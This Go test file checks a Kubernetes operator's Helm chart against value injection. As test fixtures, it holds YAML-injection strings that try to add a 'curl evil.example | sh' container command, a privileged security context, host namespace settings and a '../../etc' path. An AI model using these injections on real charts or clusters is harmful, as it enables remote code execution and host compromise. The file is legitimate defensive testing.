package chart_test

import (
	"sort"
	"strings"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

// hostileTag closes the quoted image string of a template that does not quote it, and adds a
// command and a privileged security context to the container.
const hostileTag = "0.1.0\"\n          command: [\"/bin/sh\", \"-c\", \"curl evil.example | sh\"]\n          securityContext: {privileged: true}\n          x: \"y"

var _ = Describe("hostile values", func() {
	DescribeTable("are refused by values.schema.json: image references registries would refuse",
		func(values string, where string) {
			_, err := template(release, releaseNS, "apiKey: {existingSecret: cipherscale-api-key}\n"+values)
			Expect(err).To(HaveOccurred(), "helm template accepted %q", values)
			Expect(err.Error()).To(ContainSubstring(schemaRefusal))
			Expect(err.Error()).To(ContainSubstring(where))
		},
		Entry("a tag that injects a command", "image: {repository: r, pullPolicy: Always, tag: '"+strings.ReplaceAll(hostileTag, "'", "''")+"'}", "/image/tag"),
		Entry("a tag with a space", "image: {repository: r, pullPolicy: Always, tag: 'v1 v2'}", "/image/tag"),
		Entry("a tag with a quote", `image: {repository: r, pullPolicy: Always, tag: 'v1"'}`, "/image/tag"),
		Entry("a tag starting with '-'", "image: {repository: r, pullPolicy: Always, tag: -v1}", "/image/tag"),
		Entry("a tag starting with '.'", "image: {repository: r, pullPolicy: Always, tag: .v1}", "/image/tag"),
		Entry("a tag of 129 characters", "image: {repository: r, pullPolicy: Always, tag: "+strings.Repeat("a", 129)+"}", "/image/tag"),
		Entry("a tag with a digest", "image: {repository: r, pullPolicy: Always, tag: 'v1@sha256:abc'}", "/image/tag"),
		Entry("a repository with a tag", "image: {repository: 'ghcr.io/a/b:v1', pullPolicy: Always}", "/image/repository"),
		Entry("a repository in upper case", "image: {repository: ghcr.io/A/B, pullPolicy: Always}", "/image/repository"),
		Entry("a repository with a newline", "image: {repository: \"ghcr.io/a\\n  command: [sh]\", pullPolicy: Always}", "/image/repository"),
		Entry("a repository with a quote", `image: {repository: 'ghcr.io/a"b', pullPolicy: Always}`, "/image/repository"),
		Entry("a repository ending with '/'", "image: {repository: ghcr.io/a/, pullPolicy: Always}", "/image/repository"),
		Entry("a repository of 256 characters", "image: {repository: "+strings.Repeat("a", 256)+", pullPolicy: Always}", "/image/repository"),
	)

	DescribeTable("are accepted when they are image references registries accept",
		func(values string) {
			_, err := template(release, releaseNS, "apiKey: {existingSecret: cipherscale-api-key}\n"+values)
			Expect(err).NotTo(HaveOccurred())
		},
		Entry("a semver tag with a build", "image: {repository: ghcr.io/cipherscale/cipherscale-operator, pullPolicy: Always, tag: v1.2.3_build.4}"),
		Entry("a 128-character tag", "image: {repository: r, pullPolicy: Always, tag: "+strings.Repeat("a", 128)+"}"),
		Entry("a registry with a port", "image: {repository: 'localhost:5000/team/op', pullPolicy: Always, tag: dev}"),
		Entry("a Docker Hub name", "image: {repository: cipherscale/cipherscale-operator, pullPolicy: Always}"),
		Entry("separators in path components", "image: {repository: reg.example.com/a__b/c-d.e--f, pullPolicy: Always}"),
	)

	// With the schema skipped (helm --skip-schema-validation, or a tool that renders the
	// templates without it) the templates must still not let a value add keys: every value
	// rendered into a YAML string is quoted.
	It("render no extra keys even when the schema is skipped", func() {
		safe := renderSkippingSchema(nil)
		hostile := `
image:
  repository: "ghcr.io/a\n          command: [sh]"
  tag: ` + yamlQuote(hostileTag) + `
  pullPolicy: "Always\n          command: [sh]"
defaultTenant:
  url: "https://x.example/\"\n  command: [sh]\n    - \"y"
  resyncInterval: "10m\"\n  kind: Secret"
  defaultDeletionPolicy: "Delete\n  namespaceSelector: {matchLabels: {x: y}}"
createBatchWindow: "50ms\n            - --metrics-bind-address=0"
logLevel: "info\n      hostPID: true"
priorityClassName: "x\n      hostNetwork: true"
apiKey:
  existingSecret: "cipherscale-api-key\n      hostIPC: true"
  key: "api-key\n                path: ../../etc"
watchNamespaces: ["a\n        - --watch-namespaces=", "b"]
`
		objs := renderSkippingSchema(hostile)

		By("the same objects, with the same keys, as with safe values")
		Expect(objectKeys(objs)).To(Equal(objectKeys(safe)))

		d := deploymentOf(objs)
		c := managerContainer(d)
		pod := d.Spec.Template.Spec
		By("the container runs /manager, unprivileged, whatever the values")
		Expect(c.Command).To(Equal([]string{"/manager"}))
		Expect(c.SecurityContext.Privileged).To(HaveValue(BeFalse()))
		Expect(pod.HostPID).To(BeFalse())
		Expect(pod.HostNetwork).To(BeFalse())
		Expect(pod.HostIPC).To(BeFalse())

		By("each value is one string, whole")
		Expect(c.Image).To(Equal("ghcr.io/a\n          command: [sh]:" + hostileTag))
		Expect(string(c.ImagePullPolicy)).To(Equal("Always\n          command: [sh]"))
		Expect(pod.PriorityClassName).To(Equal("x\n      hostNetwork: true"))
		Expect(pod.Volumes).To(BeEmpty())
		t := named(objs, "ClusterCipherscaleTenant", "default")
		Expect(t).NotTo(BeNil())
		for path, want := range map[string]string{
			"apiKeySecretRef.name":  "cipherscale-api-key\n      hostIPC: true",
			"apiKeySecretRef.key":   "api-key\n                path: ../../etc",
			"url":                   "https://x.example/\"\n  command: [sh]\n    - \"y",
			"resyncInterval":        "10m\"\n  kind: Secret",
			"defaultDeletionPolicy": "Delete\n  namespaceSelector: {matchLabels: {x: y}}",
		} {
			got, _, err := unstructured.NestedString(t.Object, append([]string{"spec"}, strings.Split(path, ".")...)...)
			Expect(err).NotTo(HaveOccurred())
			Expect(got).To(Equal(want), "spec.%s is one string, whole", path)
		}
		Expect(t.GetKind()).To(Equal("ClusterCipherscaleTenant"))
		sel, _, _ := unstructured.NestedMap(t.Object, "spec", "namespaceSelector")
		Expect(sel).To(BeEmpty())

		By("one argument per flag, and the flags of the safe rendering")
		safeArgs := managerContainer(deploymentOf(safe)).Args
		Expect(c.Args).To(HaveLen(len(safeArgs)))
		Expect(c.Args).To(ContainElements(
			"--create-batch-window=50ms\n            - --metrics-bind-address=0",
			"--zap-log-level=info\n      hostPID: true",
			"--watch-namespaces=a\n        - --watch-namespaces=,b",
		))
		Expect(c.Args).To(ContainElement("--leader-elect=true"))
		Expect(c.Args).NotTo(ContainElement("--leader-elect=false"))
		Expect(c.Args).NotTo(ContainElement("--allow-insecure-http"))
		Expect(c.Args).NotTo(ContainElement("--metrics-bind-address=0"))
	})
})

// renderSkippingSchema renders the chart without the schema, with values (YAML), or with safe
// values that set the same keys as the hostile ones, and parses the objects.
func renderSkippingSchema(values any) []*unstructured.Unstructured {
	GinkgoHelper()
	v := "apiKey: {existingSecret: cipherscale-api-key}\nwatchNamespaces: [a, b]\npriorityClassName: high\n"
	if s, ok := values.(string); ok {
		v = s
	}
	out, err := template(release, releaseNS, v, "--skip-schema-validation")
	Expect(err).NotTo(HaveOccurred())
	return parseObjects(out)
}

// objectKeys lists, per object, its kind and every key path it holds, down to the keys of the
// manager container and of the pod spec.
func objectKeys(objs []*unstructured.Unstructured) []string {
	var out []string
	var walk func(prefix string, v any)
	walk = func(prefix string, v any) {
		switch t := v.(type) {
		case map[string]any:
			for k, x := range t {
				walk(prefix+"."+k, x)
			}
		case []any:
			for _, x := range t {
				walk(prefix+"[]", x)
			}
		default:
			out = append(out, prefix)
		}
	}
	for _, o := range objs {
		walk(o.GetKind(), o.Object)
	}
	sort.Strings(out)
	// Duplicates (list items of one shape) say nothing about extra keys.
	uniq := out[:0]
	for i, s := range out {
		if i == 0 || s != out[i-1] {
			uniq = append(uniq, s)
		}
	}
	return uniq
}

// yamlQuote quotes s as a double-quoted YAML scalar.
func yamlQuote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return `"` + r.Replace(s) + `"`
}
